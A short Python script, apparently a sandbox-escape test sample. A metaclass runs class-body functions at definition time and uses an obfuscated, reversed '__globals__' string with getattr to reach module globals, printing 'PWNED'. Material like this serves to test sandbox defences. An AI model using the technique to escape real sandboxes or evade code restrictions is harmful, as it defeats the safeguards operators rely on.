# metaclass calls functions it finds in ns.values()
def f():
    pass


H = "".join(reversed("__slabolg__"))


class Meta(type):
    def __new__(mcls, name, bases, ns):
        for v in ns.values():
            if isinstance(v, type(f)):
                print("PWNED", len(v(None, f, [H])[0]))
        return super().__new__(mcls, name, bases, ns)


class Row(metaclass=Meta):
    x = 1

    def show(self, of, names):
        return [getattr(of, n, None) for n in names]


r = Row()
print(r.show(r, ["x"]))
